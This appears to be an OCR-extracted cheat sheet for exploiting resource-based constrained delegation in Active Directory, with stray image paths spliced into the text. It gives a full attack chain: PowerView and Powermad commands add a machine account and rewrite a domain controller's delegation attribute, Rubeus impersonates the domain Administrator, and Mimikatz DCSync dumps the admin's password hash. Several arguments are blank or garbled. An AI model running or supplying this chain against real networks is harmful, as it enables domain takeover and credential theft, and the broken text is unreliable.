Active Directory Delegations

RBCD Exploitation

# Importing Powerview and Powermad
Import-Module .\Powerview.ps1
Import-Module .\Powermad.ps1

# Authentication$TargetComputer = "DC01.domain.lan"
$SecPassword = ConvertTo-SecureString 'passw0rd' -AsPlainText -Force
$Cred = New-Object System.Management.Automation.PSCredential('DOMAIN\ControlledAccount', $SecPassword)

# Get our user's SID
$AttackerSID = Get-DomainUser ControlledUser -Credential $Cred -Server -Properties objectsid | Select -Expand objectsid
$ACE = Get-DomainObjectACL $TargetComputer -Credential $Cred -Server | ?{$_.SecurityIdentifier -match $AttackerSID}

# Adding a machine and getting SID
New-MachineAccount -Credential $Cred -Domain domain.lan -DomainController -MachineAccount lleXXXXX -Password $(ConvertTo-SecureString 'passw0rd' -AsPlainText -Force)
$ComputerSID = Get-DomainComputer lleXXXXX -Credential $Cred -Server -Properties objectsid | Select -Expand objectsid

# Creating structure to store in Allowedtoact in the DC
$SD= New-Object Security.AccessControl.RawSecurityDescriptor -ArgumentList "O:BAD:(A;;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;$($ComputerSID))"
$SDBytes = New-Object byte[] ($SD.BinaryLength)
$SD.GetBinaryForm($SDBytes, 0)

# Rewrite Allowedtoact properties on the DC
Get-DomainComputer $TargetComputer -Credential $Cred -Server | Set-DomainObject -Credential $Cred -Server -Set @{'msds-allowedtoactonbehalfofotheridentity'=$SDBytes}

# Now youcan impersonate the domain admin account on the DC using the machine account
.\Rubeus.exe hash /password:passw0rd /user:lleXXXXX /domain:domain.lan
.\Rubeus.exe s4u /user:lleXXXXX$ /rc4:<hash> /impersonateuser:Administrator /msdsspn:ldap/DC01.domain.lan /ptt /dc:/domain:domain.lan
.\Rubeus.exe klist

# Then, you can get the NTLM hash of domain admin using DCSync and Mimikatz
mimikatz>lsadump::dcsync /user:domain\Adminisrator /domain:domain.lan /dc:DC01.domain.lan